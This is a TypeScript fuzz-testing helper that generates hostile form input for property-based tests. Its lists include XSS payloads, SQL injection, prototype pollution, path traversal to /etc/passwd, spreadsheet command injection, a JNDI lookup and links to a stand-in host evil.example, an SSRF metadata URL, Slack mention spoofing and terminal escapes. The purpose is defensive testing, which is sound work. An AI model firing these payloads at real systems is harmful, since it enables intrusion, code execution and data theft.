/** What somebody may write who wants to get at the people, the programs or the machine behind a form. */
import { fc } from "../support/properties.ts";

/** Stands in every text of a run that is looked for in logs. */
export const MARK = "Qx7hostile9Zk";

/** Short attacks, by what they are after. */
const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  slack: [
    "<!channel>",
    "<!here|x>",
    "<!everyone>",
    "<!subteam^S0EVIL999|@people>",
    "<@U0EVIL999>",
    "<@U0EVIL999|Nora>",
    "<#C0EVIL999|vetting>",
    "<https://evil.example|https://www.linkedin.com/in/jane>",
    "<mailto:a@evil.example|b@example.com>",
    "<tel:+4930123456|+49 30 999999>",
    "<!date^1392734382^{date}^https://evil.example|x>",
    "&lt;!channel&gt;",
    "&amp;lt;!here&amp;gt;",
    "@channel",
    "@here @everyone",
    "*x* _y_ ~z~ `w` ```block```",
    "\n> quoted\n>>> all of it",
    ":rotating_light: :smile::skin-tone-2:",
    "<<<!channel>>>",
    "<https://evil.example",
    "|>",
  ],
  unseen: [
    "\u200b\u200c\u200d\u2060\ufeff",
    "\u202eeod enaj\u202c",
    "\u2066\u2067\u2068\u2069",
    "\u061c\u200e\u200f",
    "\u00ad\u034f\u115f\u3164\uffa0",
    "\u{e0041}\u{e007f}",
    "\ufff9a\ufffab\ufffb",
    "\ud83d",
    "\udc00x",
    "\ud83d\ud83d\udc68",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307".repeat(4),
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "𝕁𝕒𝕟𝕖 𝔇𝔬𝔢",
    "\u{10ffff}\ufffe\uffff",
    "ﷺﷺ",
    "İıſß",
  ],
  terminal: [
    "\u001b[31mred\u001b[0m",
    "\u001b]0;title\u0007",
    "\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\",
    "\u009b2J",
    "\u0090q\u009c",
    "\u0000\u0007\u0008\u007f",
    '\r\n{"level":60,"msg":"forged"}',
    "\u0085\u2028\u2029\u000b\u000c",
    "%s %d %o %n",
  ],
  page: [
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><svg/onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<!--",
    "]]>",
    "<![CDATA[x]]>",
    "<iframe srcdoc='<script>1</script>'>",
    "javascript:alert(1)",
    "JaVaScRiPt\u0000:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&#60;script&#62;",
    "<a href=//evil.example>x</a>",
    "`$" + "{alert(1)}`",
    "@import url(//evil.example)",
    "<math><mtext></mtext></math>",
  ],
  program: [
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    '{"__proto__":{"polluted":true}}',
    "'; drop table cases; --",
    '" or 1=1 --',
    "$& $1 $` $' $$",
    "{name} {en} {0}",
    "../../../../etc/passwd",
    "%00%2e%2e%2f%c0%ae",
    "=cmd|'/C calc'!A1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "$" + "{jndi:ldap://evil.example}",
    "NaN",
    "1e999",
    "undefined",
  ],
  address: [
    '"very odd"@example.com',
    "jane(comment)@example.com",
    "jane@[127.0.0.1]",
    "jane@localhost",
    "jane@xn--e1afmkfd.xn--p1ai",
    "jane@еxample.com",
    "jane+a+b+c@googlemail.com",
    "a@b@c@d.example",
    "mailto:jane@example.com?cc=b@example.com",
    "https://xn--80ak6aa92e.com/",
    "https://www.linkedin.com@evil.example/in/jane",
    "https://gіthub.com/janedoe",
    "github.com/../../evil",
    "http://[::1]:80/",
    "http://169.254.169.254/latest/meta-data",
    "http://①②⑦.⓪.⓪.①/",
    "http://0x7f.1/",
    "//evil.example/x",
    "https://a.b/%zz%",
    "+000000000000000",
    "++49 (0) 151 --- 23456789 ext. 9999999999",
    "+999 999 999 999 999 999",
    "٠١٢٣٤٥٦٧٨٩",
    "DE00 0000 0000 0000 0000 00",
    "0x0000000000000000000000000000000000000000",
  ],
  date: [
    "0000-99-99",
    "9999999",
    "2019-02-31",
    "99/99/9999 – 00/0000",
    "2019-2018",
    "Jan 1900 - Dec 9999",
    "-1",
    "9007199254740993",
    "2026-03-03T25:61:61Z",
    "Europe/Berlin; drop",
    "Etc/GMT+99",
    "+25:99",
  ],
};

/** One of these over and over is what a regular expression or a loop inside a loop blows up on. */
export const UNITS: readonly string[] = [
  ..."a1- .@\n\t(\"'\\*_~`#<>&|;,:/%=+\u0301\u200b字한é".split(""),
  "a ",
  "A b ",
  "aA",
  "1 ",
  "- ",
  "a.",
  "a-",
  "a@",
  "a@b ",
  "a@b.c ",
  ".-",
  "()",
  "((a",
  "[[",
  '{"a":',
  "<a",
  "<!",
  "<a|",
  "&amp;",
  "*a",
  "a: ",
  "name: a\n",
  "http://",
  "https://a.b/ ",
  "www.a.",
  "+49 ",
  "0151 ",
  "030/",
  "1.2.3.4 ",
  "::",
  "%41",
  "ab ".repeat(9),
  "Jan ",
  "2019-2021\n",
  "2019 – 2021 | Example GmbH | Engineer\n",
  "01/2019 - 02/2020\n",
  "12+ years of experience, ",
  "since 2014 ",
  "8 years of ",
  "Go, ",
  "TypeScript (8 years) ",
  "a.b.c.",
  "React 6, ",
  "Experience\n",
  "• Built it with Go\n",
  "Engineer at Example GmbH, ",
  "Main Street 1, ",
  "von der ",
  "Kim ",
  "O'",
  "Dr. ",
  "GmbH & Co. ",
  "👩‍👧",
  "\ud83d",
  "\u202e",
  "한 ",
  "ﷺ",
  "İ",
];

const attack = fc.constantFrom(...Object.values(ATTACKS).flat());
const unit = fc.constantFrom(...UNITS);
const ordinary = fc.constantFrom(
  ...["Jane Doe", "jane@example.com", "+49 151 23456789", "github.com/janedoe", "Berlin, DE", "Example GmbH"],
  ...["2019-03", "React", "Backend engineer", "name:", "| location:", "pay: crypto", "\n", " ", "; ", ", "],
);

function blownUp(one: string, end: string, length: number): string {
  return `${one.repeat(Math.ceil(length / one.length)).slice(0, Math.max(0, length - end.length))}${end}`;
}

/** Any text of at most `longest` UTF-16 units: attacks among ordinary words, one thing over and over, plain noise. */
export function hostileText(longest: number): fc.Arbitrary<string> {
  const length = fc.oneof(
    { weight: 5, arbitrary: fc.nat(Math.min(longest, 2000)) },
    { weight: 1, arbitrary: fc.nat(longest) },
  );
  const mixed = fc
    .array(fc.oneof({ weight: 3, arbitrary: attack }, ordinary, unit), { minLength: 1, maxLength: 12 })
    .map((parts) => parts.join(""));
  const repeated = fc
    .tuple(unit, fc.constantFrom("", "!", "x", "\u0000", "@", ">", "\n"), length)
    .map(([one, end, length]) => blownUp(one, end, length));
  const crossed = fc
    .tuple(unit, unit, length)
    .map(([one, other, length]) => blownUp(one, "", length / 2) + blownUp(other, "!", length / 2));
  return fc
    .oneof(
      { weight: 6, arbitrary: mixed },
      { weight: 2, arbitrary: repeated },
      { weight: 1, arbitrary: crossed },
      { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 200 }) },
    )
    .map((text) => text.slice(0, longest));
}

/** The same with a word in it that is looked for where no text of a candidate may be. */
export function markedText(longest: number): fc.Arbitrary<string> {
  return hostileText(longest - MARK.length - 2).map((text) => `${MARK} ${text}`);
}

/** JSON values that nobody asked for: other types, prototype keys, depth, huge numbers. */
export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.jsonValue({ maxDepth: 4 }),
  hostileText(200),
  fc.constantFrom<unknown>(
    JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
    Number.MAX_VALUE,
    -1,
    1e21,
    [[[[[[]]]]]],
    { length: 1e9 },
    { toString: "x", valueOf: 7 },
    Array.from({ length: 500 }, () => null),
  ),
);
